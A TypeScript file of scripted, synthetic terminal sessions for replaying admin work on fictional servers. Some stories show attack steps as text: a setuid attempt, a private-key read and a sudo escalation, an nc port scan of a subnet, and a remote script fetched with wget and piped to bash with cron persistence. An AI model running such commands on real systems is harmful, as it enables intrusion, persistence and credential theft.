import { top, viAppend } from './full-screen-programs.ts';
import type { Random } from './random.ts';
import { colour, type TerminalWriter } from './terminal-writer.ts';

export type Story = (terminal: TerminalWriter, random: Random) => void;

/** Logs out. */
export function bye(terminal: TerminalWriter): void {
  terminal.type('exit');
  terminal.key('\r');
  terminal.lines('', 'logout');
}

export const nginxChange: Story = (terminal, random) => {
  terminal.lines('Last login: Mon Nov  2 07:40:03 2026 from 10.20.0.9');
  terminal.ps1 = 'bob@prod-web-2:~$ ';
  terminal.prompt();
  terminal.wait(2100);
  terminal.run(
    'sudo nginx -t',
    'nginx: the configuration file /etc/nginx/nginx.conf syntax is ok',
    'nginx: configuration file /etc/nginx/nginx.conf test is successful',
  );
  terminal.type('sudo vi /etc/nginx/sites-available/shop.conf');
  terminal.key('\r');
  terminal.out('\r\n');
  const site = [
    'server {',
    '    listen 443 ssl;',
    '    server_name shop.corp.example;',
    '    root /srv/shop/public;',
    '',
    '    location /api/ {',
    '        proxy_pass http://10.20.3.18:8080;',
    '    }',
    '}',
  ];
  viAppend(terminal, {
    name: '/etc/nginx/sites-available/shop.conf',
    text: site,
    rows: 24,
    line: 4,
    added: '    client_max_body_size 64m;',
  });
  terminal.prompt();
  terminal.run(
    'sudo nginx -t && sudo systemctl reload nginx',
    'nginx: the configuration file /etc/nginx/nginx.conf syntax is ok',
    'nginx: configuration file /etc/nginx/nginx.conf test is successful',
  );
  terminal.run('curl -sI https://shop.corp.example | head -3', 'HTTP/2 200', 'server: nginx', 'content-type: text/html; charset=utf-8');
  terminal.wait(8 * 60_000);
  terminal.type('top');
  terminal.key('\r');
  terminal.out('\r\n');
  top(terminal, random, {
    frames: 5,
    clock: '09:24:40',
    processes: ['nginx: worker process', 'nginx: worker process', 'node /srv/shop/server.js', 'filebeat'],
  });
  terminal.prompt();
  bye(terminal);
};

export const podDebugging: Story = (terminal) => {
  terminal.ps1 = `${colour.blue('(prod-eks:payments)')} carol$ `;
  terminal.prompt();
  terminal.wait(1900);
  terminal.run(
    'kubectl get pods -n payments',
    'NAME                        READY   STATUS             RESTARTS        AGE',
    'ledger-6c9f7d5b8c-2xk4m     1/1     Running            0               9d',
    `gateway-7f4c6d9f5-qq8rt     0/1     ${colour.red('CrashLoopBackOff')}   17 (2m ago)     1h`,
    'gateway-7f4c6d9f5-zl2vn     1/1     Running            0               9d',
  );
  terminal.run(
    'kubectl logs -n payments gateway-7f4c6d9f5-qq8rt --previous | tail -4',
    '{"level":"info","msg":"starting gateway 4.12.0"}',
    '{"level":"info","msg":"connecting","url":"postgres://gateway:s4mple-only-pw@prod-db-2:5432/payments"}',
    '{"level":"fatal","msg":"password authentication failed for user gateway"}',
    'exit status 1',
  );
  terminal.run('kubectl get secret -n payments gateway-db -o jsonpath={.data.password} | base64 -d', 's4mple-only-pw');
  terminal.wait(150_000);
  terminal.run('kubectl delete pod -n payments gateway-7f4c6d9f5-qq8rt', 'pod "gateway-7f4c6d9f5-qq8rt" deleted');
  terminal.run(
    'kubectl rollout status -n payments deploy/gateway',
    'Waiting for deployment "gateway" rollout to finish: 1 of 2 updated replicas are available...',
    `deployment "gateway" ${colour.green('successfully rolled out')}`,
  );
  bye(terminal);
};

export const mysqlCleanup: Story = (terminal) => {
  terminal.lines(
    'Welcome to the MySQL monitor.  Commands end with ; or \\g.',
    'Your MySQL connection id is 48121',
    'Server version: 8.4.2 MySQL Community Server - GPL',
    '',
  );
  terminal.ps1 = 'mysql> ';
  terminal.prompt();
  terminal.wait(2500);
  terminal.run('use crm;', 'Database changed');
  terminal.run(
    'show tables;',
    '+---------------+',
    '| Tables_in_crm |',
    '+---------------+',
    '| contacts      |',
    '| leads_2024    |',
    '| leads_2025    |',
    '+---------------+',
    '3 rows in set (0.00 sec)',
    '',
  );
  terminal.run(
    'select count(*) from leads_2024;',
    '+----------+',
    '| count(*) |',
    '+----------+',
    '|   918273 |',
    '+----------+',
    '1 row in set (0.41 sec)',
    '',
  );
  terminal.wait(6 * 60_000);
  terminal.run('drop table leads_2024;', 'Query OK, 0 rows affected (1.12 sec)', '');
  terminal.run(
    'select id, email from contacts where email like "%corp.example" limit 3;',
    '+----+------------------------+',
    '| id | email                  |',
    '+----+------------------------+',
    '|  7 | alice@corp.example     |',
    '|  9 | bob@corp.example       |',
    '| 23 | 田中@corp.example      |',
    '+----+------------------------+',
    '3 rows in set (0.02 sec)',
    '',
  );
  terminal.type('quit');
  terminal.key('\r');
  terminal.lines('', 'Bye');
};

export const tokyoDeploy: Story = (terminal) => {
  terminal.lines('最終ログイン: 11月 8日 23:14 (10.30.0.4 から)', '本番環境です。操作は記録されます。⚠️');
  terminal.ps1 = 'tanaka@app-tokyo-1:~$ ';
  terminal.prompt();
  terminal.wait(2700);
  terminal.run(
    'git -C /srv/店舗 log --oneline -3',
    '9f31c2e 在庫画面の文字化けを修正 🐛',
    '4b07d11 多言語対応: 日本語・한국어・中文',
    'a81e0f3 依存関係を更新',
  );
  terminal.run(
    './デプロイ.sh 本番',
    '▶ ビルド中…',
    '  ██████████████████████████████ 100%',
    `▶ テスト  ${colour.green('合格')} 128 / 128`,
    '▶ 配布: app-tokyo-1 ✅  app-tokyo-2 ✅',
    '完了しました 🎉👩‍💻',
  );
  terminal.wait(95_000);
  terminal.run(
    'journalctl -u 店舗 -n 2 --no-pager',
    '11月 09 01:22:41 app-tokyo-1 店舗[4711]: 起動しました (port 8080)',
    '11月 09 01:22:43 app-tokyo-1 店舗[4711]: データベースに接続しました',
  );
  bye(terminal);
};

export const buildServer: Story = (terminal, random) => {
  terminal.ps1 = 'carol@build-7:~/shop$ ';
  terminal.prompt();
  terminal.wait(1500);
  terminal.type('make release');
  terminal.key('\r');
  terminal.out('\r\n');
  for (let percent = 0; percent <= 100; percent += 2) {
    terminal.wait(random.int(220, 900));
    const bar = '#'.repeat(percent / 4).padEnd(25, '.');
    terminal.out(`\r[${bar}] ${String(percent).padStart(3)}%  compiling module ${1 + Math.floor(percent / 7)}/15`);
  }
  terminal.lines(
    '',
    `${colour.green('PASS')} 1,204 tests in 38.2 s`,
    `${colour.yellow('warning')}: 3 deprecated calls in src/legacy`,
    'release/shop-4.12.0.tar.gz  48.1 MB',
  );
  terminal.prompt();
  terminal.wait(3000);
  terminal.run(
    'sha256sum release/shop-4.12.0.tar.gz',
    'b1946ac92492d2347c6235b4d2611184ae5a8b0b8e3d9c6f0f8ab1f2c3d4e5f6  release/shop-4.12.0.tar.gz',
  );
  bye(terminal);
};

export const typosAndSu: Story = (terminal) => {
  terminal.ps1 = 'erin@jump-1:~$ ';
  terminal.prompt();
  terminal.wait(2000);
  terminal.type('cat /etc/pawss');
  for (let erased = 0; erased < 3; erased++) {
    terminal.key('\u007f');
    terminal.out('\b \b');
  }
  terminal.run('sswd | wc -l', '38');
  terminal.run('su - deploy', 'su: Authentication failure');
  terminal.run('sudo su - deploy');
  terminal.ps1 = 'deploy@jump-1:~$ ';
  terminal.run('ls -a .ssh', '.  ..  authorized_keys  id_ed25519  id_ed25519.pub  known_hosts');
  terminal.run(
    'head -2 .ssh/id_ed25519',
    '-----BEGIN OPENSSH PRIVATE KEY-----',
    'c2FtcGxlIGtleSBvZiBhIHN5bnRoZXRpYyBhcmNoaXZlLCBvcGVucyBub3RoaW5n',
  );
  terminal.run('chmod u+s /tmp/.helper', "chmod: cannot access '/tmp/.helper': No such file or directory");
  bye(terminal);
};

/** Ends in the middle of a command: an administrator terminated the session. */
export const terminatedScan: Story = (terminal, random) => {
  terminal.ps1 = 'contractor@jump-2:~$ ';
  terminal.prompt();
  terminal.wait(3300);
  terminal.run('id', 'uid=1108(contractor) gid=1108(contractor) groups=1108(contractor)');
  terminal.type('for h in $(seq 1 254); do nc -zw1 10.20.4.$h 5432 && echo open 10.20.4.$h; done');
  terminal.key('\r');
  terminal.out('\r\n');
  for (const host of [11, 12, 13, 40, 41]) {
    terminal.wait(random.int(4000, 16_000));
    terminal.lines(`open 10.20.4.${host}`);
  }
  terminal.wait(21_000);
  terminal.lines('', colour.red('*** This session was terminated by an administrator. ***'));
};

export const readOnlyQueries: Story = (terminal) => {
  terminal.lines('psql (16.4)', 'Type "help" for help.', '');
  terminal.ps1 = 'payments=> ';
  terminal.prompt();
  terminal.wait(2000);
  terminal.run(
    "SELECT state, count(*) FROM transfers WHERE created_at > now() - interval '1 day' GROUP BY 1;",
    '  state   | count ',
    '----------+-------',
    ' settled  | 48210',
    ' rejected |   319',
    ' pending  |    27',
    '(3 rows)',
    '',
  );
  terminal.wait(4 * 60_000);
  terminal.run(
    'SELECT iban FROM accounts LIMIT 3;',
    '          iban          ',
    '------------------------',
    ' DE89370400440532013000',
    ' FR7630006000011234567',
    ' GB29NWBK60161331926819',
    '(3 rows)',
    '',
  );
  terminal.type('\\q');
  terminal.key('\r');
  terminal.lines('');
};

/** An object without an entry in the inventory: nobody can say whose it is. */
export const unknownVisitor: Story = (terminal) => {
  terminal.ps1 = '$ ';
  terminal.prompt();
  terminal.wait(2600);
  terminal.run('hostname', 'legacy-ftp-3');
  terminal.run('wget -qO- http://198.51.100.23/x.sh | bash', 'installing agent ...', 'ok');
  terminal.run('crontab -l', '*/5 * * * * /usr/local/bin/agent --quiet');
  terminal.type('exit');
  terminal.key('\r');
};
